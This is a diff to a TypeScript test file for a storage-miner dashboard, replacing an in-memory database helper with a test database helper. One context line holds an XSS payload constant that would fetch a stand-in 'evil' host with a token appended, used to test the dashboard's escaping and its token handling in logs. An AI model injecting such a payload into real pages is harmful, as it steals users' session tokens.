@@ -10,8 +10,9 @@ import type { SectorState } from '../../api/sealer.js';
 import { setupLogging } from '../../common/log.js';
 import { createToken, generateSecret, localAuth, RpcServer } from '../../rpc/index.js';
 import type { ManagerConfig } from '../config.js';
-import { ManagerStore, openDb } from '../db.js';
+import { ManagerStore } from '../db.js';
 import { managerHome } from '../harness.test-util.js';
+import { openTestDb } from '../sql/pg.test-util.js';
 import { FakeChain } from '../testkit.js';
 import { checkDest, Dashboard, type DashboardState, PAGE_HEADERS, peerIp, postAlerts } from './index.js';
 import { sectorCounts } from './queries.js';
@@ -32,7 +33,7 @@ const XSS = '<img src=x onerror="fetch(\'//evil/\'+token)">';
 
 /** A dashboard over its own database and a fake chain, on 127.0.0.1. */
 async function dashboardAlone(secret: Uint8Array | null) {
-  const store = new ManagerStore(openDb(':memory:'));
+  const store = new ManagerStore(openTestDb(':memory:'));
   const chain = new FakeChain();
   chain.addMiner(1000);
   const config = () => ({ SectorManager: { PreFetch: true, Miners: [{ ID: 1000 }] } }) as unknown as ManagerConfig;
@@ -372,7 +373,7 @@ test('dashboard: a failing request logs its path, never the ?token= it came with
 });
 
 test('dashboard: counts by state come from SQL and match the sector states', () => {
-  const store = new ManagerStore(openDb(':memory:'));
+  const store = new ManagerStore(openTestDb(':memory:'));
   const put = (n: number, s: Partial<SectorState>, online = true) =>
     store.putSector({ ID: { Miner: 1000, Number: n }, Finalized: false, AbortReason: '', ...s } as never, online);
   put(1, {});
